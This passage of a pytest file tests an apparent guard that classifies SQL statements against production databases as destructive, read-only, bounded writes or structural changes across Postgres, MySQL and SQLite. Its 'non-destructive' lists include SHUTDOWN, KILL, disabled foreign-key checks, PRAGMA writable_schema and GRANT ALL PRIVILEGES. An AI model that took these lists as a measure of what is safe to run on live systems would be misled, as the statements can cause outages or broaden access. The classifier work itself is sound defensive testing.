UPDATE orders SET status = 'x' FROM users WHERE users.id = orders.user_id AND users.email = 'a@b'
DELETE FROM users WHERE rowid = 5
DELETE FROM users WHERE id = ?
DELETE FROM logs WHERE created_at < datetime('now', '-30 days')
INSERT INTO t (a) VALUES (datetime('now')) RETURNING id
UPDATE users SET name = 'x' WHERE "id" = 5
BEGIN; UPDATE users SET name = 'x' WHERE id = 5; COMMIT
INSERT INTO fts(fts) VALUES ('optimize')
"""

SHAPES_POSTGRES = """
CREATE TABLE t (id serial PRIMARY KEY, name text NOT NULL DEFAULT 'x', at timestamptz DEFAULT now(), CHECK (id > 0))
CREATE TABLE IF NOT EXISTS t (a int REFERENCES u (id) ON DELETE CASCADE)
CREATE TABLE t AS SELECT * FROM u
CREATE TEMP TABLE t (a int)
CREATE TEMP TABLE t AS SELECT 1; DELETE FROM t; DROP TABLE t
CREATE TABLE p (a int) PARTITION BY RANGE (a)
CREATE TABLE p1 PARTITION OF p FOR VALUES FROM (1) TO (10)
CREATE INDEX ON t (a)
CREATE INDEX CONCURRENTLY i ON t USING gin (a)
CREATE UNIQUE INDEX i ON t (lower(email)) WHERE active
CREATE VIEW v AS SELECT * FROM t
CREATE OR REPLACE VIEW v AS SELECT a FROM t
CREATE MATERIALIZED VIEW m AS SELECT count(*) FROM t
REFRESH MATERIALIZED VIEW CONCURRENTLY m
CREATE SCHEMA s
CREATE SEQUENCE s
CREATE TYPE mood AS ENUM ('a', 'b')
ALTER TYPE mood ADD VALUE 'c'
CREATE DOMAIN d AS int CHECK (value > 0)
CREATE EXTENSION IF NOT EXISTS pg_trgm
CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'
CREATE PROCEDURE p() LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$
CREATE TRIGGER x BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()
CREATE ROLE r LOGIN
CREATE POLICY p ON t USING (owner = current_user)
CREATE PUBLICATION p FOR TABLE t
CREATE STATISTICS s ON a, b FROM t
ALTER TABLE t ADD COLUMN x int
ALTER TABLE t ADD COLUMN x timestamptz NOT NULL DEFAULT now()
ALTER TABLE t ADD CONSTRAINT c CHECK (a > 0) NOT VALID
ALTER TABLE t VALIDATE CONSTRAINT c
ALTER TABLE t ADD FOREIGN KEY (a) REFERENCES u (id)
ALTER TABLE t ALTER COLUMN a TYPE bigint
ALTER TABLE t ALTER COLUMN a TYPE text USING a::text
ALTER TABLE t ALTER COLUMN a SET NOT NULL
ALTER TABLE t ALTER COLUMN a SET DEFAULT 5
ALTER TABLE t RENAME TO u
ALTER TABLE t RENAME COLUMN a TO b
ALTER TABLE t OWNER TO bob
ALTER TABLE t SET SCHEMA s
ALTER TABLE t ENABLE ROW LEVEL SECURITY
ALTER TABLE t DROP CONSTRAINT c
ALTER TABLE t DISABLE TRIGGER ALL
ALTER TABLE t ATTACH PARTITION p FOR VALUES IN (1)
ALTER TABLE t CLUSTER ON i
ALTER INDEX i RENAME TO j
ALTER SEQUENCE s RESTART WITH 5
ALTER ROLE r PASSWORD 'x'
ALTER ROLE r SET work_mem = '1GB'
ALTER DATABASE d SET work_mem = '1GB'
ALTER SYSTEM SET work_mem = '1GB'
ALTER DEFAULT PRIVILEGES IN SCHEMA s GRANT SELECT ON TABLES TO r
GRANT SELECT ON t TO r
GRANT ALL ON ALL TABLES IN SCHEMA s TO r
GRANT admin TO bob
REVOKE ALL ON t FROM public
DROP INDEX i
DROP INDEX CONCURRENTLY IF EXISTS i
DROP VIEW v
DROP MATERIALIZED VIEW m
DROP FUNCTION f(int)
DROP TRIGGER x ON t
DROP ROLE r
DROP POLICY p ON t
DROP TYPE mood
DROP SCHEMA empty_one
COMMENT ON TABLE t IS 'x'
COMMENT ON COLUMN t.a IS 'x'
VACUUM t
VACUUM (FULL, ANALYZE) t
ANALYZE
ANALYZE t (a)
REINDEX TABLE CONCURRENTLY t
CLUSTER t USING i
LOCK TABLE t IN ACCESS EXCLUSIVE MODE
CHECKPOINT
DISCARD ALL
SET ROLE bob
SET session_replication_role = replica
SELECT pg_terminate_backend(5)
SELECT pg_cancel_backend(5)
SELECT setval('s', 5)
SELECT pg_advisory_lock(1)
SELECT pg_sleep(1)
SELECT pg_reload_conf()
REASSIGN OWNED BY a TO b
SAVEPOINT a; ROLLBACK TO a; RELEASE a
SECURITY LABEL ON TABLE t IS 'x'
CREATE RULE r AS ON UPDATE TO t DO ALSO NOTIFY x
CREATE EVENT TRIGGER e ON ddl_command_start EXECUTE FUNCTION f()
CREATE AGGREGATE a (int) (sfunc = f, stype = int)
CREATE OPERATOR + (leftarg = int, rightarg = int, function = f)
CREATE CAST (int AS text) WITH FUNCTION f(int)
CREATE COLLATION c (locale = 'de')
CREATE TEXT SEARCH CONFIGURATION c (copy = english)
CREATE SERVER s FOREIGN DATA WRAPPER w
CREATE USER MAPPING FOR bob SERVER s
CREATE FOREIGN TABLE f (a int) SERVER s
CREATE DATABASE d
CREATE TABLESPACE t LOCATION '/x'
CREATE ACCESS METHOD m TYPE INDEX HANDLER h
CREATE LANGUAGE l
CREATE CONVERSION c FOR 'UTF8' TO 'LATIN1' FROM f
CREATE OPERATOR CLASS c FOR TYPE int USING btree AS OPERATOR 1 <
CREATE OPERATOR FAMILY f USING btree
CREATE TRANSFORM FOR int LANGUAGE l (FROM SQL WITH FUNCTION f(internal))
CREATE FOREIGN DATA WRAPPER w
ALTER FOREIGN DATA WRAPPER w OPTIONS (a 'b')
ALTER SERVER s VERSION '2'
ALTER PUBLICATION p ADD TABLE t
ALTER EXTENSION e UPDATE
ALTER EXTENSION e ADD TABLE t
ALTER DOMAIN d DROP NOT NULL
ALTER FUNCTION f() STABLE
ALTER OPERATOR + (int, int) OWNER TO bob
ALTER COLLATION c REFRESH VERSION
ALTER TEXT SEARCH DICTIONARY d (a = b)
ALTER STATISTICS s SET STATISTICS 5
ALTER TABLESPACE t SET (seq_page_cost = 1)
ALTER TABLE ALL IN TABLESPACE a SET TABLESPACE b
ALTER USER MAPPING FOR bob SERVER s OPTIONS (a 'b')
ALTER POLICY p ON t TO bob
ALTER EVENT TRIGGER e DISABLE
ALTER MATERIALIZED VIEW m RENAME TO n
ALTER VIEW v ALTER COLUMN a SET DEFAULT 1
ALTER TRIGGER x ON t RENAME TO y
ALTER FUNCTION f() DEPENDS ON EXTENSION e
ALTER DATABASE d REFRESH COLLATION VERSION
ALTER TABLE ONLY t REPLICA IDENTITY FULL
"""

SHAPES_MYSQL = """
CREATE TABLE t (id int AUTO_INCREMENT PRIMARY KEY, name varchar(50) NOT NULL, KEY i (name)) ENGINE=InnoDB
CREATE TABLE IF NOT EXISTS t LIKE u
CREATE TABLE t AS SELECT * FROM u
CREATE TABLE t SELECT * FROM u
CREATE TEMPORARY TABLE t (a int)
CREATE TEMPORARY TABLE t SELECT 1; DELETE FROM t; DROP TABLE t
CREATE INDEX i ON t (a)
CREATE UNIQUE INDEX i ON t (a, b)
CREATE FULLTEXT INDEX i ON t (a)
CREATE VIEW v AS SELECT * FROM t
CREATE OR REPLACE ALGORITHM=MERGE DEFINER=`root`@`localhost` SQL SECURITY INVOKER VIEW v AS SELECT 1
CREATE DATABASE d CHARACTER SET utf8mb4
CREATE USER 'a'@'%' IDENTIFIED BY 'x'
CREATE ROLE r
CREATE TRIGGER t BEFORE INSERT ON u FOR EACH ROW SET NEW.a = 1
CREATE TRIGGER t BEFORE INSERT ON u FOR EACH ROW BEGIN SET NEW.a = 1; DELETE FROM x; END
CREATE PROCEDURE p() BEGIN IF 1 THEN DELETE FROM t; END IF; END
CREATE DEFINER=CURRENT_USER FUNCTION f(a int) RETURNS int DETERMINISTIC RETURN a + 1
CREATE EVENT e ON SCHEDULE EVERY 1 DAY DO DELETE FROM logs
ALTER TABLE t ADD COLUMN a int, ADD INDEX i (a), ALGORITHM=INPLACE, LOCK=NONE
ALTER TABLE t ADD (a int, b int)
ALTER TABLE t MODIFY a bigint NOT NULL
ALTER TABLE t RENAME COLUMN a TO b
ALTER TABLE t RENAME TO u
ALTER TABLE t ENGINE=InnoDB
ALTER TABLE t CONVERT TO CHARACTER SET utf8mb4
ALTER TABLE t ALTER COLUMN a SET DEFAULT 1
ALTER TABLE t ADD CONSTRAINT f FOREIGN KEY (a) REFERENCES u (id)
ALTER TABLE t DROP FOREIGN KEY f
ALTER TABLE t DROP INDEX i
ALTER TABLE t DROP PRIMARY KEY
ALTER TABLE t AUTO_INCREMENT = 5
ALTER TABLE t ADD PARTITION (PARTITION p VALUES LESS THAN (5))
ALTER USER 'a'@'%' IDENTIFIED BY 'y'
ALTER DATABASE d CHARACTER SET utf8
ALTER VIEW v AS SELECT 1
DROP INDEX i ON t
DROP VIEW v
DROP PROCEDURE p
DROP TRIGGER t
DROP EVENT e
DROP USER 'a'@'%'
DROP TEMPORARY TABLE t
RENAME TABLE a TO b, c TO d
RENAME USER a TO b
GRANT SELECT, INSERT ON shop.* TO 'a'@'%'
GRANT ALL PRIVILEGES ON *.* TO root WITH GRANT OPTION
GRANT SELECT (a, b) ON shop.t TO a
GRANT r TO a
REVOKE INSERT ON shop.* FROM a
REVOKE ALL PRIVILEGES, GRANT OPTION FROM a
SET PASSWORD FOR a = 'x'
SET ROLE r
SET GLOBAL max_connections = 100
SET PERSIST max_connections = 100
SET FOREIGN_KEY_CHECKS = 0
SET autocommit = 1
LOCK TABLES t WRITE, u READ
UNLOCK TABLES
ANALYZE TABLE t
OPTIMIZE TABLE t
FLUSH PRIVILEGES
FLUSH TABLES WITH READ LOCK
KILL 5
KILL QUERY 5
SELECT sleep(1)
SELECT get_lock('a', 1)
STOP REPLICA
START REPLICA
COMMIT
ROLLBACK
SHUTDOWN
CREATE SERVER s FOREIGN DATA WRAPPER mysql OPTIONS (HOST 'x')
"""

SHAPES_SQLITE = """
CREATE TABLE t (id INTEGER PRIMARY KEY AUTOINCREMENT, name TEXT NOT NULL DEFAULT 'x', CHECK (id > 0)) STRICT
CREATE TABLE IF NOT EXISTS t (a REFERENCES u (id) ON DELETE CASCADE) WITHOUT ROWID
CREATE TABLE t AS SELECT * FROM u
CREATE TEMP TABLE t (a); DELETE FROM t; DROP TABLE t
CREATE TABLE "my table" (a)
CREATE INDEX i ON t (a, b DESC) WHERE a IS NOT NULL
CREATE UNIQUE INDEX IF NOT EXISTS i ON t (lower(a))
CREATE VIEW v AS SELECT * FROM t
CREATE TRIGGER x AFTER UPDATE OF a ON t WHEN new.a > 1 BEGIN UPDATE t SET b = 1; DELETE FROM u; END
CREATE VIRTUAL TABLE d USING fts5(title, body)
ALTER TABLE t RENAME TO u
ALTER TABLE t RENAME COLUMN a TO b
ALTER TABLE t RENAME a TO b
ALTER TABLE t ADD COLUMN x int DEFAULT 5
ALTER TABLE t ADD x
DROP INDEX i
DROP VIEW IF EXISTS v
DROP TRIGGER t
PRAGMA foreign_keys = OFF
PRAGMA writable_schema = 1
PRAGMA journal_mode = OFF
PRAGMA user_version = 5
PRAGMA wal_checkpoint(TRUNCATE)
PRAGMA auto_vacuum = FULL
VACUUM
REINDEX
REINDEX i
ANALYZE
ANALYZE t
BEGIN IMMEDIATE
COMMIT
END TRANSACTION
ROLLBACK
ROLLBACK TO a
RELEASE SAVEPOINT a
"""


def read(sql: str, dialect: str) -> Change:
    return reader(sql.encode(), dialect, "production")


def cases(*lists: tuple[str, str]) -> list[object]:
    """One case a line, for each dialect that the list is for. A line that starts no statement belongs to the one before."""
    found: list[object] = []
    for dialect, text in lists:
        lines = [line.replace("\\\\", "\\") for line in text.strip("\n").split("\n")]
        found.extend(pytest.param(dialect, line, id=f"{dialect}: {line}") for line in lines if line.strip())
    return found


def everywhere(text: str) -> list[tuple[str, str]]:
    return [(dialect, text) for dialect in reader.dialects]


def destroys(change: Change) -> bool:
    """Whether anything in it would be judged to destroy: unknown, everything of a table, data lost, or out of the target."""
    return not change.fully_known or any(
        {"loses-data", "leaves-target"} & set(effect.traits)
        or (effect.verb in ("update", "delete") and effect.aspect == "content" and effect.choice in ("all", "unknown"))
        for effect in change.effects
    )


@pytest.mark.parametrize(
    ("dialect", "sql"),
    cases(
        *everywhere(DESTRUCTIVE_EVERYWHERE.replace("drop	table\nusers\n", "")),
        ("postgres", DESTRUCTIVE_POSTGRES),
        ("mysql", DESTRUCTIVE_MYSQL.replace("# comment\n", "")),
        ("sqlite", DESTRUCTIVE_SQLITE),
    ),
)
def test_what_destroys_is_never_missed(dialect: str, sql: str) -> None:
    """Each statement that loses data, hits everything, leaves the target or cannot be known is marked as such."""
    assert destroys(read(sql, dialect))


@pytest.mark.parametrize(
    ("dialect", "sql"),
    cases(
        *everywhere(READS_EVERYWHERE), ("postgres", READS_POSTGRES), ("mysql", READS_MYSQL), ("sqlite", READS_SQLITE)
    ),
)
def test_what_only_reads_is_known_to_only_read(dialect: str, sql: str) -> None:
    """A benign read has only read effects, all of them known."""
    change = read(sql, dialect)

    assert change.fully_known
    assert {effect.verb for effect in change.effects} <= {"read"}
    assert not any("leaves-target" in effect.traits for effect in change.effects)


@pytest.mark.parametrize(
    ("dialect", "sql"),
    cases(
        *everywhere(WRITES_EVERYWHERE), ("postgres", WRITES_POSTGRES), ("mysql", WRITES_MYSQL), ("sqlite", WRITES_SQLITE)
    ),
)
def test_a_bounded_write_is_known_and_does_not_destroy(dialect: str, sql: str) -> None:
    """A write that names or filters its rows is fully known and not taken for a destructive one."""
    change = read(sql, dialect)

    assert change.fully_known
    assert not destroys(change)
    assert any(effect.verb != "read" for effect in change.effects)


@pytest.mark.parametrize(
    ("dialect", "sql"),
    cases(("postgres", SHAPES_POSTGRES), ("mysql", SHAPES_MYSQL), ("sqlite", SHAPES_SQLITE)),
)
def test_a_change_of_structure_rights_or_process_is_known_and_loses_nothing(dialect: str, sql: str) -> None:
    """What only shapes, grants or runs upkeep is fully known, is no mere read, and is not taken for a loss of data."""
    change = read(sql, dialect)

    assert change.fully_known
    assert not destroys(change)
    assert change.effects


def test_the_lists_are_long_enough() -> None:
    """At least 120 destructive and 120 benign statements, or the percentages that are claimed of them mean little."""
    count = {name: len([line for line in text.splitlines() if line]) for name, text in globals().items() if name.isupper()}

    assert sum(count[name] for name in count if name.startswith("DESTRUCTIVE")) >= 120
    assert sum(count[name] for name in count if name.startswith(("READS", "WRITES"))) >= 120
